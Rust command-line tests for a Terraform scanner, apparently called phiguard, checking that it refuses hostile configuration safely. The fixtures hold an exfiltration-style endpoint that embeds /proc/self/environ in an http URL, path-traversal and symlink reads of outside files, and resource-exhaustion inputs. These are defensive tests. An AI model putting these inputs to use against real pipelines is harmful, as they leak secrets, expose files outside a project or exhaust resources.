//! Hostile and mistaken Terraform through the command line: file functions stay inside
//! the scanned tree, module paths do not depend on the current folder, self-calling
//! modules keep their resources, and a hostile folder does not cost the good one its
//! report.

use assert_cmd::Command;
use std::path::Path;
use std::time::Duration;

fn write(root: &Path, files: &[(&str, &str)]) {
    for (p, text) in files {
        let p = root.join(p);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    }
}

fn phiguard(cwd: &Path) -> Command {
    let mut cmd = Command::cargo_bin("phiguard").unwrap();
    cmd.current_dir(cwd).timeout(Duration::from_secs(120));
    cmd
}

fn json(cwd: &Path, args: &[&str]) -> serde_json::Value {
    let out = phiguard(cwd)
        .args(["scan", "--format", "json"])
        .args(args)
        .output()
        .unwrap();
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "{e}: {}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    })
}

fn messages(report: &serde_json::Value) -> Vec<String> {
    report["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| {
            let at = d["location"]["line"].as_u64().unwrap_or(0);
            format!(
                "{}:{at}: {}",
                d["file"].as_str().unwrap(),
                d["message"].as_str().unwrap()
            )
        })
        .collect()
}

const ENVIRON: &str = r#"resource "aws_sns_topic" "t" { tags = { phi = "true" } }
resource "aws_sns_topic_subscription" "s" {
  topic_arn = aws_sns_topic.t.arn
  protocol  = "http"
  endpoint  = "http://x/${file("/proc/self/environ")}"
}
"#;

#[test]
fn the_runner_environment_never_reaches_any_report() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), &[("main.tf", ENVIRON)]);
    let marker = "PHIGUARD_LEAK_MARKER_7f3a9c";
    for format in phiguard_report::FORMATS {
        for root in [None, Some("/")] {
            let mut cmd = phiguard(dir.path());
            cmd.env("PHIGUARD_TEST_TOKEN", marker)
                .args(["scan", ".", "--format", format]);
            if let Some(r) = root {
                cmd.args(["--root", r]);
            }
            let out = cmd.output().unwrap();
            let all = format!(
                "{}{}",
                String::from_utf8_lossy(&out.stdout),
                String::from_utf8_lossy(&out.stderr)
            );
            assert!(
                !all.contains(marker),
                "{format} (root {root:?}) leaks the environment"
            );
            assert!(!all.contains("PHIGUARD_TEST_TOKEN"), "{format}: {all}");
        }
    }
    for format in phiguard_report::GRAPH_FORMATS {
        let out = phiguard(dir.path())
            .env("PHIGUARD_TEST_TOKEN", marker)
            .args(["graph", ".", "--format", format])
            .output()
            .unwrap();
        assert!(
            !String::from_utf8_lossy(&out.stdout).contains(marker),
            "graph {format}"
        );
    }
    let report = json(dir.path(), &["."]);
    let m = messages(&report);
    assert!(
        m.iter()
            .any(|m| m.starts_with("./main.tf:5: file '/proc/self/environ' is not read")),
        "{m:?}"
    );
}

#[test]
fn devices_pipes_symlinks_and_dot_dot_are_refused_by_name() {
    let dir = tempfile::tempdir().unwrap();
    let repo = dir.path().join("repo");
    write(
        dir.path(),
        &[
            ("outside.txt", "OUTSIDE-SECRET"),
            (
                "repo/main.tf",
                r#"resource "aws_sqs_queue" "zero" { name = file("/dev/zero") }
resource "aws_sqs_queue" "pipe" { name = file("${path.module}/pipe") }
resource "aws_sqs_queue" "link" { name = file("link.txt") }
resource "aws_sqs_queue" "up" { name = file("../outside.txt") }
resource "aws_sqs_queue" "tpl" { name = templatefile("${path.module}/../outside.txt", {}) }
resource "aws_sqs_queue" "ok" { name = file("inside.txt") }
"#,
            ),
            ("repo/inside.txt", "inside-name"),
        ],
    );
    let status = std::process::Command::new("mkfifo")
        .arg(repo.join("pipe"))
        .status()
        .unwrap();
    assert!(status.success());
    std::os::unix::fs::symlink(dir.path().join("outside.txt"), repo.join("link.txt")).unwrap();
    let out = phiguard(&repo)
        .args(["scan", ".", "--format", "json"])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(!text.contains("OUTSIDE-SECRET"));
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let m = messages(&report);
    for (line, part) in [
        (1, "file '/dev/zero' is not read: it is a system file"),
        (2, "file './pipe' is not read: it is a named pipe"),
        (
            3,
            "file 'link.txt' is not read: it is outside the scanned tree",
        ),
        (
            4,
            "file '../outside.txt' is not read: it is outside the scanned tree",
        ),
        (
            5,
            "file './../outside.txt' is not read: it is outside the scanned tree",
        ),
    ] {
        let want = format!("./main.tf:{line}: {part}");
        assert!(
            m.iter().any(|m| m.starts_with(&want)),
            "{want} not in {m:?}"
        );
    }
    assert!(!m.iter().any(|m| m.contains("inside.txt")), "{m:?}");
}

/// (rule, subject, verdict) of every finding, and the resource count.
fn verdicts(report: &serde_json::Value) -> (Vec<(String, String, String)>, u64) {
    let mut v: Vec<(String, String, String)> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["rule_id"].as_str().unwrap().to_string(),
                f["resource"]["name"]
                    .as_str()
                    .unwrap_or_default()
                    .to_string(),
                f["verdict"].as_str().unwrap_or_default().to_string(),
            )
        })
        .collect();
    v.sort();
    let resources = report["inputs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["resources"].as_u64().unwrap())
        .sum();
    (v, resources)
}

fn layout(root: &Path) {
    write(
        root,
        &[
            (
                "envs/prod/main.tf",
                "module \"db\" {\n  source = \"../../modules/db\"\n  name   = \"claims\"\n}\nmodule \"noop\" {\n  source = \"./\"\n  count  = 0\n}\nresource \"aws_sqs_queue\" \"q\" { name = \"prod\" }\n",
            ),
            (
                "modules/db/main.tf",
                "variable \"name\" {}\nresource \"aws_db_instance\" \"db\" {\n  identifier        = var.name\n  engine            = \"postgres\"\n  storage_encrypted = false\n}\n",
            ),
        ],
    );
}

#[test]
fn module_paths_do_not_depend_on_the_current_folder() {
    let dir = tempfile::tempdir().unwrap();
    let repo = dir.path().join("repo");
    layout(&repo);
    std::fs::create_dir(repo.join(".git")).unwrap();
    let prod = repo.join("envs/prod");
    let abs = prod.to_string_lossy().to_string();
    let runs = [
        (repo.clone(), "envs/prod"),
        (repo.clone(), "./envs/prod/"),
        (prod.clone(), "."),
        (prod.clone(), &abs),
        (dir.path().to_path_buf(), "repo/envs/prod"),
        (repo.join("modules"), "../envs/prod"),
    ];
    let mut seen = Vec::new();
    for (cwd, arg) in &runs {
        let report = json(cwd, &[arg]);
        let (v, resources) = verdicts(&report);
        assert_eq!(
            resources,
            2,
            "{arg} from {}: {:?}",
            cwd.display(),
            messages(&report)
        );
        assert!(
            v.iter()
                .any(|(_, s, verdict)| s.contains("module.db.aws_db_instance.db")
                    && verdict == "fail"),
            "{arg}: {v:?}"
        );
        seen.push(v);
    }
    assert!(seen.windows(2).all(|w| w[0] == w[1]), "{seen:#?}");
}

#[test]
fn without_a_repository_the_root_is_the_scanned_folder_unless_given() {
    let dir = tempfile::tempdir().unwrap();
    layout(dir.path());
    let prod = dir.path().join("envs/prod");
    let report = json(&prod, &["."]);
    assert_eq!(verdicts(&report).1, 1);
    assert!(
        messages(&report).iter().any(|m| m.contains(
            "module \"db\": cannot read ../../modules/db: it is outside the scanned tree"
        )),
        "{:?}",
        messages(&report)
    );
    let report = json(&prod, &[".", "--root", "../.."]);
    assert_eq!(verdicts(&report).1, 2, "{:?}", messages(&report));
}

#[test]
fn folders_that_call_themselves_or_each_other_are_still_scanned() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        &[
            (
                "self/main.tf",
                "module \"noop\" {\n  source = \"./\"\n  count  = 0\n}\nresource \"aws_sqs_queue\" \"q\" { name = \"self\" }\n",
            ),
            (
                "a/main.tf",
                "module \"b\" { source = \"../b\" }\nresource \"aws_sqs_queue\" \"a\" { name = \"a\" }\n",
            ),
            (
                "b/main.tf",
                "module \"a\" { source = \"../a\" }\nresource \"aws_sqs_queue\" \"b\" { name = \"b\" }\n",
            ),
        ],
    );
    let report = json(dir.path(), &["."]);
    let m = messages(&report);
    assert_eq!(verdicts(&report).1, 3, "{m:?}");
    assert!(
        m.iter().any(|m| m.starts_with(
            "./self/main.tf:1: module.noop calls self, a module that is already being read"
        )),
        "{m:?}"
    );
    assert!(m.iter().any(|m| m.starts_with("b/main.tf:1: module.a calls a, a module that is already being read (a cycle: a -> b -> a)")), "{m:?}");
}

#[test]
fn a_hostile_folder_does_not_cost_the_good_one_its_report() {
    let dir = tempfile::tempdir().unwrap();
    let mut doubling = String::from("locals {\n  l0 = [1, 2]\n");
    for i in 1..=40 {
        doubling.push_str(&format!(
            "  l{i} = concat(local.l{}, local.l{})\n",
            i - 1,
            i - 1
        ));
    }
    doubling.push_str("}\nresource \"aws_sqs_queue\" \"d\" { name = length(local.l40) }\n");
    write(
        dir.path(),
        &[
            (
                "good/main.tf",
                "resource \"aws_db_instance\" \"good\" {\n  engine            = \"postgres\"\n  storage_encrypted = false\n}\n",
            ),
            (
                "hostile/main.tf",
                "resource \"aws_sqs_queue\" \"t\" { name = templatefile(\"${path.module}/t.tpl\", {}) }\nresource \"aws_sqs_queue\" \"n\" { name = length([for i in range(100000) : [for j in range(100000) : j]]) }\n",
            ),
            ("hostile/t.tpl", "${templatefile(\"t.tpl\", {})}"),
            ("hostile2/main.tf", &doubling),
        ],
    );
    let report = json(dir.path(), &["."]);
    let (v, _) = verdicts(&report);
    assert!(
        v.iter()
            .any(|(_, s, verdict)| s == "aws_db_instance.good" && verdict == "fail"),
        "{v:?}"
    );
    let m = messages(&report);
    assert!(
        m.iter()
            .any(|m| m.starts_with("hostile/t.tpl:1: ") && m.contains("nests more than")),
        "{m:?}"
    );
    assert!(
        m.iter().any(|m| m.contains("range() would give more than")),
        "{m:?}"
    );
    assert!(
        m.iter()
            .any(|m| m.starts_with("./hostile2/main.tf") && m.contains("is not evaluated")),
        "{m:?}"
    );
}
